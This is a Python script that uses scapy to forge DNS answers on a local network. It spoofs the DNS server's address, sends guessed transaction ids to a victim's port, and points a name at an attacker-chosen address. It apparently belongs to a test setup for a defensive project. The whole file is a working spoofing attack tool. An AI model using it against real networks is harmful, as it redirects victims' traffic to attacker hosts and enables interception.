#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
# Copyright (c) 2026 The Cordon Authors
"""Forged DNS answers, written with scapy (Debian's python3-scapy: run it
with /usr/bin/python3).

An attacker on the LAN wants a device's name to point at its own server:
it sends the device answers for a name the device looks up, as if from the
gateway's DNS server (source address and port spoofed), to the port the
device asks from, with guessed transaction ids. It cannot see the device's
real query (the bridge forwards unicast only to its owner), so it guesses.

  forge_dns.py --iface eth0 --victim-mac M --victim IP --port P
               --server IP --name NAME --address IP [--count N] [--ttl S]

Prints the number of answers sent and the first one's time (Unix seconds).
"""

import argparse
import random
import sys
import time

from scapy.all import DNS, DNSQR, DNSRR, IP, UDP, Ether, conf, get_if_hwaddr  # noqa: E402


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--victim-mac", required=True)
    ap.add_argument("--victim", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--server", required=True)
    ap.add_argument("--name", required=True)
    ap.add_argument("--address", required=True)
    ap.add_argument("--count", type=int, default=64)
    ap.add_argument("--ttl", type=int, default=3600)
    a = ap.parse_args()
    conf.verb = 0
    ids = random.sample(range(65536), a.count)
    frames = [Ether(src=get_if_hwaddr(a.iface), dst=a.victim_mac) /
              IP(src=a.server, dst=a.victim) / UDP(sport=53, dport=a.port) /
              DNS(id=i, qr=1, aa=1, rd=1, ra=1, qd=DNSQR(qname=a.name),
                  an=DNSRR(rrname=a.name, type="A", ttl=a.ttl, rdata=a.address))
              for i in ids]
    s = conf.L2socket(iface=a.iface)
    t0 = time.time()
    for f in frames:
        s.send(f)
    s.close()
    print("sent %d first %.6f" % (len(frames), t0), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
